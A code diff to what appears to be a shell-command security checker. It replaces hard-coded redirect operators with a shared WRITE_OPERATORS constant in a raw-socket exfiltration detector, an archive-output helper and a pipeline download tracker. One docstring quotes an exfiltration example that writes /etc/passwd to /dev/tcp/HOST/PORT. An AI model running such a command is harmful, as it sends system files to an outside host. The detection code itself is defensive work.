@@ -41,7 +41,7 @@ from ..findings import static_args as _values
 from ..interpreters import AWKS, INTERPRETERS, fed_code, inline_code
 from ..operands import operands
 from ..options import option_values
-from ..parse import Script, SimpleCommand, Substitution
+from ..parse import WRITE_OPERATORS, Script, SimpleCommand, Substitution
 from ..paths import check_path, normalize_path
 from ..programs import SHELLS, Invocation, shell_mode, walk
 from ..project_commands import STDIN, planned
@@ -609,7 +609,7 @@ def _to_raw_socket(invocation: Invocation, home: str) -> Verdict | None:
     """``cat /etc/passwd > /dev/tcp/HOST/PORT``: output written straight to another machine."""
     command = invocation.command
     for redirect in command.redirects:
-        target = command.static(redirect.target) if redirect.op in (">", ">>", ">|", "&>") else None
+        target = command.static(redirect.target) if redirect.op in WRITE_OPERATORS else None
         match = _RAW_SOCKET.match(target or "")
         if not match or _LOCAL_HOST.match(match.group(1)):
             continue
@@ -1462,7 +1462,7 @@ def _archive_outputs(invocation: Invocation) -> list[str]:
     outputs = [
         target
         for redirect in command.redirects
-        if redirect.op in (">", ">>", ">|", "&>") and (target := command.static(redirect.target))
+        if redirect.op in WRITE_OPERATORS and (target := command.static(redirect.target))
     ]
     positionals = [v for v in values if not v.startswith("-")]
     name = invocation.name
@@ -1527,7 +1527,7 @@ def _pipeline(stages: list[Invocation], home: str, tracker: _Tracker) -> Verdict
     last = stages[-1]
     for redirect in last.command.redirects:
         target = last.command.static(redirect.target)
-        if redirect.op in (">", ">>", ">|", "&>") and target and not _STREAMS.match(target):
+        if redirect.op in WRITE_OPERATORS and target and not _STREAMS.match(target):
             tracker.add(target, last.cwd, f"downloaded by {stages[0].name}")
     return None
 
